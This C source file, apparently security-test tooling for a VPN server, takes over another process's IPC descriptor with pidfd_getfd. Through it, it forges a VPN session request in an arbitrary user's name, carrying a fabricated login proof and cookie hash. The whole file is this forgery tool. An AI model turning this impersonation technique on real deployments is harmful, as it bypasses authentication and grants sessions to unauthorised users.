/* SPDX-License-Identifier: Apache-2.0 */
/*
 * A front that somebody took over: through descriptor FD of process PID, which is a front's channel
 * to its engine, a VPN session is asked for in the name of USER. The answer goes to that front,
 * which did not ask. Usage: forge PID FD USER GROUP.
 */
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/pidfd.h>
#include <unistd.h>

#include "ipc/frame.h"
#include "ipc/loginproof.h"
#include "ipc/vpn.h"

static int ask(int fd, char *user, char *group)
{
	Asafo__Ipc__VpnSessionNew body = ASAFO__IPC__VPN_SESSION_NEW__INIT;
	struct ipc_frame frame = {.type = IPC_VPN_SESSION_NEW, .id = 0x7fffffff};
	struct loginproof made_up = {.is_there = true, .number = 1, .made_at = monotime_now()};
	uint8_t hash[VPN_HASH_SIZE] = "nobody has this cookie", client[4] = {203, 0, 113, 66};
	Asafo__Ipc__LoginProof proof;

	loginproof_fill(&made_up, &proof);
	body.cookie_hash = (ProtobufCBinaryData){sizeof(hash), hash};
	body.client = (ProtobufCBinaryData){sizeof(client), client};
	body.user = user;
	body.group = group;
	body.proof = &proof;
	return ipc_frame_send(fd, &frame, &body.base);
}

int main(int argc, char **argv)
{
	int process, fd = -1, r = -1;

	if (argc != 5)
		return 2;
	process = pidfd_open((pid_t)strtol(argv[1], NULL, 10), 0);
	if (process >= 0)
		fd = pidfd_getfd(process, (int)strtol(argv[2], NULL, 10), 0);
	if (fd < 0)
		perror("forge: the front's channel");
	else
		r = ask(fd, argv[3], argv[4]);
	if (fd >= 0 && r < 0)
		(void)fprintf(stderr, "forge: not sent: %d\n", r);
	return r < 0 ? 1 : 0;
}
